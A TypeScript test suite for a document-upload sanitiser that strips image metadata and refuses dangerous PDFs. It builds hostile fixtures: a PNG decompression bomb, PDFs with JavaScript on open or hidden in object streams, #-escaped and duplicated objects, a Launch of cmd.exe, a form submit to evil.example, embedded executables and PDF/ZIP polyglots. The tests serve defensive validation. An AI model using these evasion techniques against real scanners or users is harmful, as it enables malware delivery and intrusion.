import { randomBytes } from 'node:crypto';
import { PassThrough, Readable, Writable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import type { DocumentMediaType } from '../../../shared/documents/documents';
import { imagesToPdf, inspectPdf, InspectionRefusal, sanitizeImage } from './inspection';
import { inspectPdfIsolated } from './pdf-inspection';

const MAX_PIXELS = 40_000_000;
const MAX_PAGES = 10;
const BLUE = { r: 0, g: 0, b: 255 };
const RED = { r: 255, g: 0, b: 0 };

// ---------------------------------------------------------------------------------------------
// Image fixtures

/** A 40×20 photo, blue on its left half, red on its right, with a camera's EXIF and a GPS position. */
async function phonePhoto(orientation?: number): Promise<Buffer> {
  let image = sharp({ create: { width: 40, height: 20, channels: 3, background: RED } })
    .composite([{ input: { create: { width: 20, height: 20, channels: 3, background: BLUE } }, left: 0, top: 0 }])
    .jpeg({ quality: 95 })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Pocket 12', Copyright: 'Jeanne Martin' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '47/1 54/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '1/1 54/1 4200/100' },
    });
  // NOTE: an `Orientation` inside withExif is dropped by sharp; only withMetadata sets it.
  if (orientation) image = image.withMetadata({ orientation });
  return image.toBuffer();
}

async function flatImage(format: 'png' | 'jpeg', width = 30, height = 10): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 0.5 } } });
  return (format === 'png' ? image.png() : image.jpeg()).toBuffer();
}

/** Random pixels: a JPEG that does not compress, so that cutting its end cuts image data. */
async function noisyJpeg(): Promise<Buffer> {
  return sharp(randomBytes(400 * 300 * 3), { raw: { width: 400, height: 300, channels: 3 } })
    .jpeg({ quality: 90 })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A decompression bomb: a few hundred bytes whose header declares 60000×60000 RGB pixels. */
function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(60_000, 0);
  header.writeUInt32BE(60_000, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8 bits, truecolour, deflate, no filter, not interlaced
  const rows = deflateSync(Buffer.alloc((1 + 60_000 * 3) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Collects what is written to it. */
class Sink extends Writable {
  readonly chunks: Buffer[] = [];
  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: (error?: Error | null) => void): void {
    this.chunks.push(chunk);
    callback();
  }
  get bytes(): Buffer {
    return Buffer.concat(this.chunks);
  }
}

/** Feeds bytes in small chunks, as a download from storage would. */
const streamOf = (bytes: Buffer) => {
  const stream = new PassThrough();
  for (let at = 0; at < bytes.length; at += 4096) stream.write(bytes.subarray(at, at + 4096));
  stream.end();
  return stream;
};

/** The refusal a check ends with (and a readable failure when it accepts). */
async function refusal(promise: Promise<unknown>): Promise<InspectionRefusal> {
  const outcome = await promise.then(
    (value: unknown) => ({ value }),
    (error: unknown) => ({ error }),
  );
  if ('value' in outcome) throw new Error(`expected an InspectionRefusal, but it was accepted: ${JSON.stringify(outcome.value)}`);
  if (!(outcome.error instanceof InspectionRefusal)) throw new Error(`expected an InspectionRefusal, got ${String(outcome.error)}`);
  return outcome.error;
}

async function pixel(image: Buffer, x: number, y: number): Promise<{ r: number; g: number; b: number }> {
  const { data, info } = await sharp(image).raw().toBuffer({ resolveWithObject: true });
  const at = (y * info.width + x) * info.channels;
  return { r: data[at]!, g: data[at + 1]!, b: data[at + 2]! };
}

const close = (actual: { r: number; g: number; b: number }, expected: { r: number; g: number; b: number }) =>
  Math.abs(actual.r - expected.r) < 40 && Math.abs(actual.g - expected.g) < 40 && Math.abs(actual.b - expected.b) < 40;

describe('sanitizeImage', () => {
  let output: Sink;
  const sut = (bytes: Buffer, mediaType: DocumentMediaType, maxPixels = MAX_PIXELS) => sanitizeImage(streamOf(bytes), output, mediaType, maxPixels);

  beforeEach(() => {
    output = new Sink();
  });

  it('turns a photo taken sideways (EXIF orientation 6) upright', async () => {
    const photo = await phonePhoto(6);
    expect((await sharp(photo).metadata()).orientation).toBe(6); // the fixture is what it claims

    const size = await sut(photo, 'image/jpeg');

    expect(size).toEqual({ width: 20, height: 40 });
    const clean = await sharp(output.bytes).metadata();
    expect(clean).toMatchObject({ format: 'jpeg', width: 20, height: 40 });
    expect(clean.orientation).toBeUndefined();
    // Rotated a quarter turn clockwise: what was on the left is now on top.
    expect(close(await pixel(output.bytes, 10, 5), BLUE)).toBe(true);
    expect(close(await pixel(output.bytes, 10, 35), RED)).toBe(true);
  });

  it('leaves an upright photo as it is', async () => {
    await expect(sut(await phonePhoto(), 'image/jpeg')).resolves.toEqual({ width: 40, height: 20 });
    expect(close(await pixel(output.bytes, 5, 10), BLUE)).toBe(true);
  });

  it('strips the EXIF: camera, owner and GPS position', async () => {
    const photo = await phonePhoto(6);
    const exif = (await sharp(photo).metadata()).exif!;
    expect(exif.includes('PhoneMaker')).toBe(true);
    expect(exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25]))).toBe(true); // the GPS IFD pointer

    await sut(photo, 'image/jpeg');

    const clean = await sharp(output.bytes).metadata();
    expect(clean.exif).toBeUndefined();
    expect(clean.xmp).toBeUndefined();
    expect(clean.icc).toBeUndefined();
    for (const text of ['Exif\0\0', 'PhoneMaker', 'Pocket 12', 'Jeanne Martin']) expect(output.bytes.includes(text)).toBe(false);
  });

  it('drops bytes hidden after the end of the image', async () => {
    const hidden = Buffer.from('PK\x03\x04 a whole archive hidden after the JPEG', 'latin1');

    await sut(Buffer.concat([await phonePhoto(), hidden]), 'image/jpeg');

    expect(output.bytes.includes(hidden)).toBe(false);
  });

  it('keeps a PNG as a PNG, and its transparency', async () => {
    await expect(sut(await flatImage('png'), 'image/png')).resolves.toEqual({ width: 30, height: 10 });

    expect(output.bytes.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(true);
    expect(await sharp(output.bytes).metadata()).toMatchObject({ format: 'png', hasAlpha: true });
  });

  it('keeps a JPEG as a JPEG', async () => {
    await sut(await flatImage('jpeg'), 'image/jpeg');
    expect((await sharp(output.bytes).metadata()).format).toBe('jpeg');
  });

  it('refuses a PNG whose header declares 60000×60000 pixels, without decoding it', async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(2_000);

    const error = await refusal(sut(bomb, 'image/png'));

    expect(error.rejection).toBe('image_too_large');
    expect(output.bytes).toHaveLength(0);
  });

  it('refuses an image over the pixel limit it is given', async () => {
    expect((await refusal(sut(await flatImage('png', 30, 10), 'image/png', 299))).rejection).toBe('image_too_large');
  });

  it('refuses a JPEG cut short', async () => {
    const noisy = await noisyJpeg();
    expect(noisy.length).toBeGreaterThan(50_000);

    expect((await refusal(sut(noisy.subarray(0, noisy.length - 3000), 'image/jpeg'))).rejection).toBe('damaged');
  });

  it('refuses bytes that are not an image', async () => {
    expect((await refusal(sut(Buffer.from('\xff\xd8\xff this is not a JPEG at all', 'latin1'), 'image/jpeg'))).rejection).toBe('damaged');
  });

  it('refuses an empty file', async () => {
    expect((await refusal(sanitizeImage(Readable.from([]), output, 'image/png', MAX_PIXELS))).rejection).toBe('damaged');
  });
});

// ---------------------------------------------------------------------------------------------
// PDF fixtures

interface PdfOptions {
  pages?: number;
  useObjectStreams?: boolean;
  /** Adds to the document what the test is about. */
  with?: (pdf: PDFDocument) => void | Promise<void>;
}

async function pdfFile({ pages = 1, useObjectStreams = false, with: add }: PdfOptions = {}): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  for (let i = 0; i < pages; i++) pdf.addPage().drawText(`Page ${i + 1}`, { x: 50, y: 700 });
  await add?.(pdf);
  return Buffer.from(await pdf.save({ useObjectStreams }));
}

const openAction = (action: Record<string, unknown>) => (pdf: PDFDocument) => {
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(pdf.context.obj(action as never)));
};
const javaScriptOnOpen = openAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hello")') });

/** Rewrites names in a saved PDF, keeping every length (and so every offset in its cross-reference table). */
function rewrite(pdf: Buffer, replacements: Array<[string, string]>): Buffer {
  let text = pdf.toString('latin1');
  for (const [from, to] of replacements) {
    expect(to).toHaveLength(from.length);
    expect(text).toContain(from);
    text = text.replace(from, to);
  }
  return Buffer.from(text, 'latin1');
}

describe('inspectPdf', () => {
  const sut = (bytes: Uint8Array, maxPages = MAX_PAGES) => inspectPdf(bytes, maxPages);

  it.each([1, 3, MAX_PAGES])('counts %i page(s)', async (pages) => {
    await expect(sut(await pdfFile({ pages }))).resolves.toEqual({ pages });
  });

  it('reads a PDF saved with object streams', async () => {
    await expect(sut(await pdfFile({ pages: 2, useObjectStreams: true }))).resolves.toEqual({ pages: 2 });
  });

  it('accepts a link to a web page (an action that is not code)', async () => {
    const pdf = await pdfFile({ with: openAction({ Type: 'Action', S: 'URI', URI: PDFString.of('https://www.impots.gouv.fr/') }) });
    await expect(sut(pdf)).resolves.toEqual({ pages: 1 });
  });

  it('refuses JavaScript run on opening', async () => {
    const error = await refusal(sut(await pdfFile({ with: javaScriptOnOpen })));
    expect(error.rejection).toBe('active_content');
    expect(error.message).toMatch(/\/(JavaScript|JS)/);
  });

  it('refuses JavaScript on a page event (additional actions)', async () => {
    const pdf = await pdfFile({
      with: (doc) => {
        const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') });
        doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action }));
      },
    });
    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses a document-level JavaScript name tree', async () => {
    const pdf = await pdfFile({
      with: (doc) => {
        const script = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
        doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('init'), script] }) }));
      },
    });
    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses a launch action', async () => {
    const pdf = await pdfFile({ with: openAction({ Type: 'Action', S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\cmd.exe') }) });
    const error = await refusal(sut(pdf));
    expect(error.rejection).toBe('active_content');
    expect(error.message).toContain('/Launch');
  });

  it('refuses an embedded file (an /EmbeddedFiles name tree)', async () => {
    const pdf = await pdfFile({
      with: (doc) => doc.attach(Buffer.from('MZ pretend program'), 'facture.exe', { mimeType: 'application/octet-stream' }),
    });
    expect(pdf.toString('latin1')).toContain('/EmbeddedFiles');

    const error = await refusal(sut(pdf));
    expect(error.rejection).toBe('active_content');
    expect(error.message).toMatch(/\/(EmbeddedFiles?|FileAttachment)/);
  });

  it('refuses JavaScript hidden in a compressed object stream', async () => {
    const pdf = await pdfFile({ useObjectStreams: true, with: javaScriptOnOpen });
    // The fixture hides it: nothing in the file's bytes says JavaScript.
    expect(pdf.toString('latin1')).not.toMatch(/JavaScript|\/JS\b/);
    expect(pdf.toString('latin1')).toContain('/ObjStm');

    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses names written with #-escapes (/J#61vaScript, /J#53)', async () => {
    const plain = await pdfFile({ with: openAction({ Type: 'Action', S: 'Xxxxxxxxxxxx', Xxxx: PDFString.of('app.alert(1)') }) });
    const pdf = rewrite(plain, [
      ['/Xxxxxxxxxxxx', '/J#61vaScript'],
      ['/Xxxx ', '/J#53 '],
    ]);
    expect(pdf.toString('latin1')).not.toMatch(/\/JavaScript|\/JS\b/);

    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses JavaScript in an object that a second copy of the same object hides from a sequential parse', async () => {
    // Readers find objects through the cross-reference table, which here points at the first
    // copy (the JavaScript); a parser reading the file from start to end keeps the last copy.
    const text = (await pdfFile({ with: openAction({ Type: 'Action', S: 'URI', URI: PDFString.of('https://example.org/') }) })).toString('latin1');
    const benign = /(\d+) 0 obj\n<<\n\/Type \/Action\n\/S \/URI[\s\S]*?endobj\n/.exec(text)!;
    const script = `${benign[1]} 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n`;
    const xref = text.indexOf('\nxref\n') + 1;
    let forged = `${text.slice(0, benign.index)}${script}\n${text.slice(benign.index, xref)}`;
    forged = `${forged}${text.slice(xref).replace(/startxref\n\d+/, `startxref\n${forged.length}`)}`;
    const table = forged.slice(forged.indexOf('\nxref\n'));
    expect(table).toContain(`${String(benign.index).padStart(10, '0')} 00000 n`); // the table points at the script

    expect((await refusal(sut(Buffer.from(forged, 'latin1')))).rejection).toBe('active_content');
  });

  it('refuses the hidden copy even when strings that look like a stream\'s start and end surround it', async () => {
    const text = (await pdfFile({ with: openAction({ Type: 'Action', S: 'URI', URI: PDFString.of('https://example.org/') }) })).toString('latin1');
    const benign = /(\d+) 0 obj\n<<\n\/Type \/Action\n\/S \/URI[\s\S]*?endobj\n/.exec(text)!;
    const script = `${benign[1]} 0 obj\n<< /Foo (>> stream\n) /Type /Action /S /JavaScript /JS (app.alert(1)) /Bar (endstream) >>\nendobj\n`;
    const xref = text.indexOf('\nxref\n') + 1;
    let forged = `${text.slice(0, benign.index)}${script}\n${text.slice(benign.index, xref)}`;
    forged = `${forged}${text.slice(xref).replace(/startxref\n\d+/, `startxref\n${forged.length}`)}`;

    expect(['active_content', 'damaged']).toContain((await refusal(sut(Buffer.from(forged, 'latin1')))).rejection);
  });

  it('refuses a script hidden in a compressed object stream whose objects a later stream redefines', async () => {
    // Two object streams defining the same object: the parser keeps the second (harmless), a reader
    // following the cross-reference table may take the first (the script).
    const doc = await PDFDocument.create();
    doc.addPage();
    const objStm = (body: string) => {
      const header = '3 0 ';
      return doc.context.flateStream(`${header}${body}`, { Type: 'ObjStm', N: 1, First: header.length });
    };
    doc.context.register(objStm('<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>'));
    doc.context.register(objStm('<< /Type /Action /S /URI /URI (https://example.org/) >>'));
    const pdf = Buffer.from(await doc.save({ useObjectStreams: false }));
    expect(pdf.toString('latin1')).not.toMatch(/\/JavaScript/); // compressed: not visible in the raw bytes

    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses an XFA form (it carries its own scripts)', async () => {
    const pdf = await pdfFile({
      with: (doc) => {
        const xfa = doc.context.flateStream('<xdp:xdp><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>');
        doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: doc.context.register(xfa) }));
      },
    });

    expect((await refusal(sut(pdf))).rejection).toBe('active_content');
  });

  it('refuses an encrypted PDF', async () => {
    // NOTE: pdf-lib cannot encrypt; what makes a PDF encrypted for a reader is the /Encrypt
    // dictionary of its trailer, which is what is written here (the Standard handler, RC4 40-bit).
    const pdf = await pdfFile({
      with: (doc) => {
        doc.context.trailerInfo.Encrypt = doc.context.register(
          doc.context.obj({ Filter: 'Standard', V: 1, R: 2, P: -44, O: PDFHexString.of('0'.repeat(64)), U: PDFHexString.of('1'.repeat(64)) }),
        );
      },
    });
    expect(pdf.toString('latin1')).toMatch(/trailer\n<<[\s\S]*\/Encrypt \d+ 0 R/);

    expect((await refusal(sut(pdf))).rejection).toBe('encrypted_pdf');
  });

  it.each([
    ['a ZIP archive', Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00payload', 'latin1')],
    ['a script', Buffer.from('\n#!/bin/sh\necho owned\n')],
    ['a single byte', Buffer.from('x')],
  ])('refuses a PDF followed by %s (a polyglot)', async (_what, tail) => {
    const error = await refusal(sut(Buffer.concat([await pdfFile(), tail])));
    expect(error.rejection).toBe('mixed_content');
  });

  it('refuses a PDF followed by a ZIP archive whose comment ends in %%EOF', async () => {
    // A ZIP is read from its end: its end record (PK\x05\x06) may carry a comment, here "%%EOF".
    const zip = Buffer.concat([
      Buffer.from('PK\x03\x04\x14\x00\x00\x00\x00\x00', 'latin1'),
      Buffer.alloc(16),
      Buffer.from([5, 0, 0, 0]),
      Buffer.from('a.exeMZ pretend program'),
      Buffer.from('PK\x05\x06', 'latin1'),
      Buffer.alloc(16),
      Buffer.from([5, 0]),
      Buffer.from('%%EOF'),
    ]);
    expect((await refusal(sut(Buffer.concat([await pdfFile(), zip])))).rejection).toBe('mixed_content');
  });

  it('accepts whitespace and NULs after %%EOF', async () => {
    await expect(sut(Buffer.concat([await pdfFile(), Buffer.from('\r\n \n\t\0\0\n')]))).resolves.toEqual({ pages: 1 });
  });

  it('refuses a PDF cut in half', async () => {
    const pdf = await pdfFile({ pages: 3 });
    const error = await refusal(sut(pdf.subarray(0, Math.floor(pdf.length / 2))));
    expect(error.rejection).toBe('damaged');
  });

  it('refuses a PDF cut in half with an end marker put back', async () => {
    const pdf = await pdfFile({ pages: 3 });
    const error = await refusal(sut(Buffer.concat([pdf.subarray(0, Math.floor(pdf.length / 2)), Buffer.from('\n%%EOF\n')])));
    expect(error.rejection).toBe('damaged');
  });

  it('refuses a file that is not a PDF', async () => {
    expect((await refusal(sut(Buffer.from('%PDF-1.7\nnothing here\n%%EOF\n')))).rejection).toBe('damaged');
  });

  it('refuses more pages than allowed', async () => {
    const error = await refusal(sut(await pdfFile({ pages: 3 }), 2));
    expect(error.rejection).toBe('too_many_pages');
    expect(error.message).toBe('3 pages, at most 2');
  });
});

describe('imagesToPdf', () => {
  it('makes one page per image, in order, at the width of an A4 page and the proportions of each photo', async () => {
    const images = [
      { bytes: await flatImage('jpeg', 300, 400), mediaType: 'image/jpeg' as const },
      { bytes: await flatImage('png', 400, 200), mediaType: 'image/png' as const },
      { bytes: await phonePhoto(), mediaType: 'image/jpeg' as const },
    ];

    const pdf = await PDFDocument.load(await imagesToPdf(images), { updateMetadata: false });

    expect(pdf.getPageCount()).toBe(3);
    const sizes = pdf.getPages().map((page) => page.getSize());
    expect(sizes.map((s) => s.width)).toEqual([595.28, 595.28, 595.28]);
    expect(sizes.map((s) => Math.round(s.height * 100) / 100)).toEqual([793.71, 297.64, 297.64]);
    expect(pdf.getProducer()).toBe('Visio MSAP');
  });

  it('gives a PDF that passes its own inspection', async () => {
    const bytes = await imagesToPdf([{ bytes: await flatImage('png'), mediaType: 'image/png' }]);
    await expect(inspectPdf(bytes, MAX_PAGES)).resolves.toEqual({ pages: 1 });
  });
});

describe('inspectPdfIsolated (a worker thread under a deadline)', () => {
  it('answers like inspectPdf', async () => {
    const pdf = await PDFDocument.create();
    pdf.addPage();
    pdf.addPage();
    await expect(inspectPdfIsolated(await pdf.save(), 50)).resolves.toEqual({ pages: 2 });
    await expect(inspectPdfIsolated(Buffer.concat([Buffer.from(await pdf.save()), Buffer.from('PK\x03\x04zip')]), 50)).rejects.toMatchObject({ rejection: 'mixed_content' });
  }, 30_000);

  it('refuses as damaged a file built to be slow to parse, without blocking this thread', async () => {
    const crafted = Buffer.from(`%PDF-1.7\n${' stream\n'.repeat(400_000)}%%EOF\n`, 'latin1');
    let ticks = 0;
    const ticker = setInterval(() => ticks++, 50);
    try {
      await expect(inspectPdfIsolated(crafted, 50, 2_000)).rejects.toMatchObject({ rejection: 'damaged' });
    } finally {
      clearInterval(ticker);
    }
    // This thread kept running meanwhile (timers fired).
    expect(ticks).toBeGreaterThan(5);
  }, 30_000);
});
